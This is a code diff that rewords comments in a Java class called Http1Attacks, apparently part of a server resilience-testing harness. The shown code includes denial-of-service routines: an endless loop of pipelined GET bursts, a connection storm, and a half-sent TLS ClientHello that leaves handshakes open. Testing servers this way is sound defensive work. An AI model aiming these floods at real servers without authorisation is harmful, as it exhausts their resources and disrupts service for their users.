@@ -6,7 +6,7 @@ import java.net.Socket;
 import java.nio.charset.StandardCharsets;
 import java.util.List;
 
-/** Attacks by HTTP/1.1, or before any HTTP. */
+/** Attacks with HTTP/1.1, or before any HTTP. */
 final class Http1Attacks {
   private static final int BODY = 65_536;
   private static final int SMALL_BUFFER = 4096;
@@ -28,7 +28,7 @@ final class Http1Attacks {
         new Attack("connections that are closed at once", 6, 4, 4, Http1Attacks::storm));
   }
 
-  /** Of the handshake. */
+  /** The attacks on the TLS handshake. */
   static List<Attack> tls() {
     return List.of(
         new Attack("half a TLS handshake", 7, 4, 100, Http1Attacks::halfHandshake),
@@ -90,7 +90,7 @@ final class Http1Attacks {
     try (Socket socket = target.connect(from, SMALL_BUFFER, false)) {
       byte[] burst = bytes("GET /api/resource HTTP/1.1\r\nHost: x\r\n\r\n".repeat(BURST));
       while (true) {
-        socket.getOutputStream().write(burst); // until it is cut off
+        socket.getOutputStream().write(burst); // until the server closes the connection
       }
     }
   }
@@ -108,7 +108,7 @@ final class Http1Attacks {
     }
   }
 
-  /** The first bytes of a ClientHello that says it is longer. */
+  /** Sends the first bytes of a ClientHello and not the rest. */
   private static void halfHandshake(Target target, String from) throws IOException {
     try (Socket socket = target.connectPlainly(from, 0)) {
       socket.getOutputStream().write(new byte[] {22, 3, 1, 2, 0, 1, 0, 1, (byte) 0xfc, 3, 3});
